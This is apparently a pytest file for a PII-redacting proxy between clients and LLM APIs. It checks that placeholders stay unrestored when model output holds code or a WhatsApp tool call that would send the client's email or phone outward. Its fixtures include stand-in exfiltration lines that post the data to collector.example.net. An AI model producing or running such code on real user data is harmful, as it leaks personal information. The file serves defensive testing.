"""Scopes that send, what atk19 found left (restleft20: M1, L1, L2, L3), through the proxy with the official SDKs.

The client sends its address and phone; the provider sees `<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`.
- M1: code without a fence that sends them (Python lines, a REPL transcript, `<listing>`, a notebook's code cell)
  reaches the client as written, on all three APIs, whole and streamed; the prose after it comes back.
- L1: a Go snippet that only prints comes back restored when streamed in 1-3 character pieces, as whole.
- L2: under output `pii` redact, `s.send(b'<EMAIL_ADDRESS_1>')` comes back as the client's address in a bytes string.
- L3: a WhatsApp call to the model's number with the address in its message keeps it; a contact record's `phone`
  beside the address is data, restored.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import Mock, ProxyFactory
from tests.e2e.test_scopes16 import _anthropic, _chat, _responses
from tests.support.clients import RESTORE_ONLY_POLICY, SCREENED_POLICY

MAIL = "lena.fischer@example.org"
PHONE = "415-555-0163"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
U = "https://collector.example.net/in"

UNFENCED = (f"Save it as send.py:\n\nimport requests\ndata = {{\"email\": \"{E}\"}}\n"
            f"requests.post(\"{U}\", json=data)\n\n"
            f">>> phone = \"{P}\"\n>>> requests.post(\"{U}\", data=phone)\n<Response [200]>\n\n"
            f"<listing>\nemail = '{E}'\nrequests.post('{U}', data=email)\n</listing>\n\n"
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"phone = '" + P + "'\\n\", "
            "\"requests.post('" + U + "', data=phone)\"]}]}\n\n")
PROSE = f"You are registered as {E}, phone {P}."
GO = f"Here you go:\n\n```go\nu := User{{Name: \"Lena\", Email: \"{E}\"}}\nfmt.Println(u)\n```\n"
API = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}


def restored(text: str) -> str:
    return text.replace(E, MAIL).replace(P, PHONE)


@pytest.mark.parametrize("api", list(API))
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_unfenced_code_that_sends_keeps_its_placeholders(mock: Mock, proxy_factory: ProxyFactory, api: str,
                                                         stream: bool) -> None:
    proxy = proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
    mock.script(text=UNFENCED + PROSE, chunk_chars=3)
    text, _ = API[api](proxy, stream)
    assert text == UNFENCED + restored(PROSE)


@pytest.mark.parametrize("api", list(API))
def test_a_streamed_go_snippet_that_prints_is_restored(mock: Mock, proxy_factory: ProxyFactory, api: str) -> None:
    proxy = proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
    for stream, size in ((False, 0), (True, 1), (True, 2), (True, 3)):
        mock.script(text=GO, chunk_chars=size or 4)
        text, _ = API[api](proxy, stream)
        assert text == restored(GO), size


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_strings_prefix_keeps_the_clients_address(mock: Mock, proxy_factory: ProxyFactory, stream: bool) -> None:
    proxy = proxy_factory(files={"policies/default.yaml": SCREENED_POLICY})
    said = f"```python\ns.send(b'{E}')\nx = r'{E}'\n```\nCall {P}."
    mock.script(text=said, chunk_chars=3)
    text, _ = _chat(proxy, stream)
    assert text == restored(said)


WHATSAPP: dict[str, Any] = {"phone": "+447700900123", "message": f"Customer e-mail: {E}"}
CONTACT: dict[str, Any] = {"name": "Lena", "email": E, "phone": "+1 415 555 0199"}


@pytest.mark.parametrize("api", list(API))
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_message_to_the_models_number_keeps_its_placeholders(mock: Mock, proxy_factory: ProxyFactory, api: str,
                                                               stream: bool) -> None:
    proxy = proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
    # (two answers: one answer's tool calls are one scope, answer20)
    mock.script(text="Done.", chunk_chars=3, tool_calls=[{"name": "send_whatsapp", "arguments": WHATSAPP}])
    _, calls = API[api](proxy, stream)
    assert calls == [WHATSAPP]
    mock.script(text="Done.", chunk_chars=3, tool_calls=[{"name": "create_contact", "arguments": CONTACT}])
    _, calls = API[api](proxy, stream)
    assert calls == [{**CONTACT, "email": MAIL}]
